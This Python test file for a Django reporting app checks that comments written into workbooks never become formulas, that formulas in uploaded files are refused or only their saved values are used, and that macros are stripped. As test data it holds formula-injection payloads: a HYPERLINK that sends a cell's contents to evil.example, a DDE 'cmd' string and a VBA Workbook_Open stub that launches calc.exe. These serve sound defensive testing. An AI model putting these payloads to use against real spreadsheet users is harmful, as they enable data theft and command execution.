"""What users typed never runs on someone else's machine: text written to a workbook is never a formula, macros
are never stored, and formulas in an uploaded file are either computed values we say we used or refused."""

from __future__ import annotations

import hashlib
import io
import re
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from lienket.core import xlsx_safe
from lienket.core.errors import ValidationFailed
from lienket.core.models import AuditEntry
from lienket.reporting import csv
from lienket.reporting.excel import mapping
from lienket.reporting.excel import reader as excel_reader
from lienket.reporting.excel.imports import import_job_apply, import_job_create, import_job_run
from lienket.reporting.models import DataValue, DisaggregationOption, ImportJob
from lienket.reporting.services import datavalues_apply
from lienket.reporting.values import ValueItem

from .test_xlsx import PERIOD, build, db_dump, fill, upload

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B7,"Bấm vào đây")'
# Stored as typed after NFC (which trims surrounding whitespace, so "\t=1" is stored as "=1"); the writer
# itself is tested with leading tabs and CRs in lienket/core/tests/test_xlsx_safe.py.
PAYLOADS = [HYPERLINK, "+1", "-1+2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1"]


@pytest.fixture
def vi():
    with translation.override("vi"):
        yield


def _store_comments(w: Any) -> None:
    """Hà Nội and Phú Thọ each comment their three values with a payload."""
    indicators = ["RETAIL", "EXPORT", "IIP"]
    for k, (unit, actor) in enumerate([("01", "hanoi_officer"), ("25@2025-07-01", "phutho_officer")]):
        items = [
            ValueItem(unit=unit, period=PERIOD, indicator=code, value=3 * k + n + 1, comment=PAYLOADS[3 * k + n])
            for n, code in enumerate(indicators)
        ]
        datavalues_apply(actor=w.users[actor], items=items, source="api")


def _stored() -> list[str]:
    comments = sorted(DataValue.objects.values_list("comment", flat=True))
    assert len(comments) == len(PAYLOADS)
    assert all(c[0] in "=+-@" for c in comments)
    return comments


def _sheet_xml(data: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]


def _comment_cells(data: bytes) -> list[Any]:
    """The filled comment cells of every unit sheet (column H from row 7)."""
    wb = load_workbook(io.BytesIO(data))
    cells = []
    for ws in wb.worksheets:
        if ws.title == mapping.MAPPING_SHEET:
            continue
        for row in range(mapping.FIRST_DATA_ROW, ws.max_row + 1):
            cell = ws[f"H{row}"]
            if cell.value is not None:
                cells.append(cell)
    return cells


def _assert_all_text(data: bytes) -> None:
    for xml in _sheet_xml(data):
        assert not re.search(rb"<(\w+:)?f[ >/]", xml), "a formula was written"
    cells = _comment_cells(data)
    assert sorted(c.value for c in cells) == _stored()
    for cell in cells:
        assert cell.data_type == "s", cell.value
        assert cell.quotePrefix, cell.value  # editing the cell in Excel keeps it text


def test_comments_that_look_like_formulas_come_back_as_text_in_the_coordinators_workbook(client, w):
    _store_comments(w)
    client.force_login(w.users["coordinator"])

    response = client.get(reverse("reporting:workbook_download"), {"dataset": "BC-THANG", "period": PERIOD})

    assert response.status_code == 200
    _assert_all_text(response.content)


def test_a_comment_that_looks_like_a_formula_comes_back_as_text_in_the_template(client, w):
    datavalues_apply(actor=w.users["hanoi_officer"], items=[
        ValueItem(unit="01", period=PERIOD, indicator="RETAIL", value=1, comment=HYPERLINK),
    ], source="form")
    client.force_login(w.users["hanoi_officer"])

    response = client.get(reverse("reporting:template_download"), {"dataset": "BC-THANG", "period": PERIOD})

    assert response.status_code == 200
    [cell] = _comment_cells(response.content)
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")
    assert not any(b"<f>" in xml or b"<f " in xml for xml in _sheet_xml(response.content))


@pytest.mark.parametrize("reader", ["fast", "openpyxl"])
def test_reuploading_the_workbook_keeps_the_comments_exactly(w, reader):
    """No apostrophe is added to the text (the cell type and quotePrefix neutralise it), so nothing is
    stripped on import: the comment reads back as stored."""
    _store_comments(w)
    data = build(w, w.hanoi, w.phutho)

    parsed = excel_reader.workbook_parse(data=data, filename="all.xlsx", reader=reader)

    assert parsed.errors == []
    assert sorted(i.comment for i in parsed.items) == _stored()


def test_reuploading_each_template_changes_nothing(w):
    _store_comments(w)
    stored, before = _stored(), db_dump()

    hanoi = upload(w.users["hanoi_officer"], build(w, w.hanoi))
    phutho = upload(w.users["phutho_officer"], build(w, w.phutho))

    assert hanoi.status == phutho.status == "done", (hanoi.errors, phutho.errors)
    assert hanoi.summary["unchanged"] == phutho.summary["unchanged"] == 3
    assert _stored() == stored
    assert db_dump() == before


def test_option_names_that_look_like_formulas_are_text_and_still_match_on_upload(w):
    option = DisaggregationOption.objects.get(code="I")
    option.name = "=1+1"
    option.save()
    data = build(w, w.hanoi, period="2026S1", dataset=w.half_year)
    for xml in _sheet_xml(data):
        assert b"<f>" not in xml
    wb = load_workbook(io.BytesIO(data))
    ws = wb.worksheets[0]
    labels = {ws[f"E{r}"].value: ws[f"E{r}"].data_type for r in range(7, ws.max_row + 1) if ws[f"E{r}"].value}
    assert labels["=1+1"] == "s"
    row = next(r for r in range(7, ws.max_row + 1) if ws[f"E{r}"].value == "=1+1")
    ws[f"F{row}"] = 4
    buf = io.BytesIO()
    wb.save(buf)

    job = upload(w.users["hanoi_officer"], buf.getvalue())

    assert job.status == "done", job.errors
    assert DataValue.objects.get(indicator__code="MARKETS", option__code="I").value == 4


def test_characters_a_workbook_cannot_hold_are_dropped_instead_of_failing_the_download(client, w):
    datavalues_apply(actor=w.users["hanoi_officer"], items=[
        ValueItem(unit="01", period=PERIOD, indicator="RETAIL", value=1, comment="a\x01b\x0bc"),
    ], source="form")
    client.force_login(w.users["hanoi_officer"])
    before = db_dump()

    response = client.get(reverse("reporting:template_download"), {"dataset": "BC-THANG", "period": PERIOD})

    assert response.status_code == 200
    assert [c.value for c in _comment_cells(response.content)] == ["abc"]
    assert db_dump() == before


@pytest.mark.parametrize("text", [HYPERLINK, "+1", "-1+2", "@x", "\t=1", "\r=1", "'=1", "sơ bộ", "a=b"])
def test_the_csv_export_quotes_by_the_same_rule_as_the_xlsx_writer(text):
    quoted = csv.comment_escape(text)

    assert quoted == xlsx_safe.csv_quote(text)
    assert quoted.startswith("'") == (xlsx_safe.formula_risk(text) or text.startswith("'"))
    assert csv.comment_unescape(quoted) == text


# ---------------------------------------------------------------------------------------------------------
# formulas in uploaded files


def _with_cells(data: bytes, cells: dict[str, bytes], sheet: str = "xl/worksheets/sheet1.xml") -> bytes:
    """Replace cells of the first sheet by raw XML, as Excel or LibreOffice would save them (openpyxl cannot
    write a formula together with its saved result)."""
    data = fill(data, dict.fromkeys(cells, 0))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == sheet:
                for ref, xml in cells.items():
                    body, n = re.subn(rb'<c r="' + ref.encode() + rb'"([^>]*?)(?: t="\w+")?>.*?</c>',
                                      lambda m, xml=xml, ref=ref: b'<c r="' + ref.encode() + b'"' + m.group(1) + b" " + xml + b"</c>", body)
                    assert n == 1, ref
            dst.writestr(info, body)
    return out.getvalue()


@pytest.mark.parametrize("reader", ["fast", "openpyxl"])
def test_a_formula_without_a_saved_result_is_refused_with_its_cell(w, reader):
    data = fill(build(w, w.hanoi), {"F7": "=1+1", "F8": 5})

    parsed = excel_reader.workbook_parse(data=data, filename="b.xlsx", reader=reader)

    assert [(e["cell"], e["code"]) for e in parsed.errors] == [("F7", "formula_without_value")]
    assert parsed.errors[0]["message"].startswith("BC-THANG - Hà Nội!F7: ")
    assert "=1+1" in parsed.errors[0]["message"]


def test_an_upload_with_an_unsaved_formula_saves_nothing_and_names_the_cell_in_vietnamese(w, vi):
    before = db_dump()

    job = upload(w.users["hanoi_officer"], fill(build(w, w.hanoi), {"F7": "=1+1", "F8": 5}))

    assert job.status == "invalid"
    assert [e["cell"] for e in job.errors] == ["F7"]
    assert job.errors[0]["message"].startswith("BC-THANG - Hà Nội!F7: công thức =1+1 không có giá trị đã tính")
    assert db_dump() == before


@pytest.mark.parametrize("reader", ["fast", "openpyxl"])
def test_the_saved_result_of_a_formula_is_used_and_the_uploader_is_told_which_cell(w, reader):
    data = _with_cells(build(w, w.hanoi), {
        "F7": b"><f>1+1</f><v>2</v>",
        "F8": b"><f>[1]Sheet1!$A$1</f><v>7.5</v>",
        "F9": b't="str"><f>_xlfn.WEBSERVICE("http://example.invalid/iip")</f><v>104,5</v>',
        "H7": 't="str"><f>"sơ bộ"</f><v>sơ bộ</v>'.encode(),
    })

    with translation.override("en"):
        parsed = excel_reader.workbook_parse(data=data, filename="b.xlsx", reader=reader)

    assert parsed.errors == []
    assert [(i.ref.rsplit("!", 1)[1], i.value, i.comment) for i in parsed.items] == [
        ("F7", 2, "sơ bộ"), ("F8", Decimal("7.5"), ""), ("F9", Decimal("104.5"), ""),
    ]
    assert [(e["cell"], e["code"]) for e in parsed.warnings] == [
        ("F7", "formula_value_used"), ("H7", "formula_value_used"), ("F8", "formula_value_used"), ("F9", "formula_value_used"),
    ]
    assert "=[1]Sheet1!$A$1" in parsed.warnings[2]["message"]
    assert "another file" in parsed.warnings[2]["message"]


@pytest.mark.parametrize("reader", ["fast", "openpyxl"])
def test_a_formula_whose_result_is_an_error_is_refused(w, reader):
    data = _with_cells(build(w, w.hanoi), {"F7": b't="e"><f>1/0</f><v>#DIV/0!</v>'})

    parsed = excel_reader.workbook_parse(data=data, filename="b.xlsx", reader=reader)

    assert [(e["cell"], e["code"]) for e in parsed.errors] == [("F7", "formula_error")]
    assert "#DIV/0!" in parsed.errors[0]["message"]


def test_the_dry_run_page_shows_which_formula_results_were_used_and_the_values_are_saved(client, w):
    data = _with_cells(build(w, w.hanoi), {"F7": b"><f>SUM(1,2)</f><v>3</v>"})
    officer = w.users["hanoi_officer"]

    job = upload(officer, data, dry_run=True)
    client.force_login(officer)
    page = client.get(reverse("reporting:import_detail", args=[job.pk])).content.decode()

    assert job.status == "validated"
    assert [wn["cell"] for wn in job.summary["warnings"]] == ["F7"]
    assert "=SUM(1,2)" in page
    assert 'data-testid="import-warnings"' in page
    job = import_job_run(job_id=import_job_apply(job=job, actor=officer).pk)
    assert job.status == "done"
    assert DataValue.objects.get(indicator__code="RETAIL").value == 3


# ---------------------------------------------------------------------------------------------------------
# macro-enabled workbooks

VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribute VB_Name = \"ThisWorkbook\"\r\nSub Workbook_Open()\r\nShell \"calc.exe\"\r\nEnd Sub"


def _macro_enabled(data: bytes, *, extra: dict[str, bytes] | None = None, content_types: bytes | None = None) -> bytes:
    """The workbook as Excel saves it as .xlsm: a VBA project part, its relationship and content types."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "[Content_Types].xml":
                body = content_types or body.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                ).replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
            elif info.filename == "xl/_rels/workbook.xml.rels":
                body = body.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                                    b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
            dst.writestr(info, body)
        dst.writestr("xl/vbaProject.bin", VBA)
        for name, body in (extra or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def _members(job: ImportJob) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(bytes(job.content))) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def test_a_macro_enabled_workbook_is_read_but_its_macros_are_never_stored_and_the_uploader_is_told(client, w):
    xlsm = _macro_enabled(fill(build(w, w.hanoi), {"F7": 12}))
    assert b"macroEnabled" in zipfile.ZipFile(io.BytesIO(xlsm)).read("[Content_Types].xml")
    officer = w.users["hanoi_officer"]
    client.force_login(officer)

    response = client.post(reverse("reporting:import_upload"), {
        "file": SimpleUploadedFile("bieu-01.xlsm", xlsm, content_type="application/vnd.ms-excel.sheet.macroEnabled.12"),
        "dry_run": "0",
    })
    job = ImportJob.objects.get()
    job = import_job_run(job_id=job.pk)  # the background task (the test settings may run it immediately)
    page = client.get(reverse("reporting:import_detail", args=[job.pk])).content.decode()

    assert response.status_code == 302
    assert job.status == "done", job.errors
    assert DataValue.objects.get(indicator__code="RETAIL").value == 12
    members = _members(job)
    assert "xl/vbaProject.bin" not in members
    assert not any(VBA[8:40] in body for body in members.values())
    assert b"macroEnabled" not in members["[Content_Types].xml"]
    assert b"vbaProject" not in members["xl/_rels/workbook.xml.rels"]
    assert job.sha256 == hashlib.sha256(xlsm).hexdigest()  # the fingerprint of the file the uploader has
    assert [wn["code"] for wn in job.summary["warnings"]] == ["macros_removed"]
    assert "(VBA)" in page
    entry = AuditEntry.objects.get(action="import.create")
    assert entry.after["macros_removed"] == ["xl/vbaProject.bin"]


def test_excel_4_macro_sheets_are_refused_and_nothing_is_stored(w, vi):
    xlsm = _macro_enabled(build(w, w.hanoi), extra={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    before = ImportJob.objects.count()

    with pytest.raises(ValidationFailed) as exc:
        import_job_create(actor=w.users["hanoi_officer"], filename="b.xlsm", data=xlsm)

    assert exc.value.code == "macros_refused"
    assert "b.xlsm" in exc.value.message
    assert ImportJob.objects.count() == before


def test_a_damaged_macro_enabled_workbook_is_refused_and_nothing_is_stored(w):
    xlsm = _macro_enabled(build(w, w.hanoi), content_types=b"<Types><unclosed")
    before = ImportJob.objects.count()

    with pytest.raises(ValidationFailed) as exc:
        import_job_create(actor=w.users["hanoi_officer"], filename="b.xlsm", data=xlsm)

    assert exc.value.code == "corrupt_file"
    assert ImportJob.objects.count() == before
